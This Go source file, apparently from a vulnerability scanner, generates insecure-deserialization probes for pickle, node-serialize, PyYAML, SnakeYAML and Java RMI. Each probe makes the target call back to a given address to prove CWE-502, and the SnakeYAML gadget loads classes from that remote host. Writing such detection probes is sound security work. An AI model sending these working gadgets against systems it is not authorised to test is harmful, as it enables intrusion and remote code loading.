package scenario

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"net/url"
	"strconv"
	"strings"

	"github.com/crenel-project/crenel/internal/scan/listener"
)

// Serialised objects that do nothing but call an address (argument url), in the
// formats that name code. They prove CWE-502 without doing harm.
func init() {
	for name, write := range map[string]func(url string) string{
		// A pickle of protocol 0 whose reduction calls urllib.request.urlopen, in base64.
		"gadget.pickle": func(url string) string {
			return base64.StdEncoding.EncodeToString([]byte("curllib.request\nurlopen\n(V" + url + "\ntR."))
		},
		"gadget.node": nodeGadget,
		"gadget.node64": func(url string) string {
			return base64.StdEncoding.EncodeToString([]byte(nodeGadget(url)))
		},
		"gadget.pyyaml": func(url string) string {
			return "!!python/object/apply:urllib.request.urlopen [\"" + url + "\"]"
		},
		"gadget.snakeyaml": func(url string) string {
			return "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"" + url + "\"]]]]"
		},
		// A reference to a remote object of Java, of classes that the JDK has: who reads
		// it tells the address that it holds it, by JRMP. In base64.
		"gadget.java": func(address string) string { return base64.StdEncoding.EncodeToString(javaGadget(address)) },
	} {
		funcs[name] = func(a map[string]string) (any, error) {
			if !strings.HasPrefix(a["url"], "http") || strings.ContainsAny(a["url"], "\"'\\ \n") {
				return nil, fmt.Errorf("%s: url %q: want an address", name, a["url"])
			}
			return write(a["url"]), nil
		}
	}
	// text.after: text, last: what comes after the last occurrence of it.
	funcs["text.after"] = func(a map[string]string) (any, error) {
		return a["text"][strings.LastIndex(a["text"], a["last"])+len(a["last"]):], nil
	}
}

// nodeGadget is a function of node-serialize that calls itself.
func nodeGadget(url string) string {
	return `{"crenel":"_$$ND_FUNC$$_function(){require('http').get('` + url + `').on('error',function(){})}()"}`
}

// javaGadget is a java.rmi.server.RemoteObjectInvocationHandler in Java's
// serialisation (Java Object Serialization Specification, chapter 6), whose
// reference is at the address' host and port, under the address' key.
func javaGadget(address string) []byte {
	u, err := url.Parse(address)
	if err != nil {
		return nil
	}
	port, _ := strconv.ParseUint(u.Port(), 10, 16) // 0 where there is none: nobody is called
	if port == 0 {
		port = 80
	}
	count, when, _ := listener.RemoteKey(address) // zeros call, too, but name nobody
	text := func(b []byte, s string) []byte {
		return append(binary.BigEndian.AppendUint16(b, uint16(len(s))), s...)
	}
	b := []byte{0xac, 0xed, 0, 5, 0x73, 0x72} // magic, version; an object; its class
	b = text(b, "java.rmi.server.RemoteObjectInvocationHandler")
	b = binary.BigEndian.AppendUint64(b, 2)
	b = append(b, 2, 0, 0, 0x78, 0x72) // serialisable, no fields; its superclass
	b = text(b, "java.rmi.server.RemoteObject")
	b = binary.BigEndian.AppendUint64(b, 0xd361b4910c61331e)
	b = append(b, 3, 0, 0, 0x78, 0x70) // writes itself, no fields; no superclass
	ref := text(nil, "UnicastRef")
	ref = text(ref, u.Hostname())
	ref = binary.BigEndian.AppendUint32(ref, uint32(port))
	ref = binary.BigEndian.AppendUint64(ref, 7) // ObjID: number, and UID: unique, time, count
	ref = binary.BigEndian.AppendUint32(ref, listener.RemoteMark)
	ref = binary.BigEndian.AppendUint64(ref, when)
	ref = binary.BigEndian.AppendUint16(ref, count)
	ref = append(ref, 0)                                // it is no result
	b = append(append(b, 0x77, byte(len(ref))), ref...) // a block of data
	return append(b, 0x78)
}
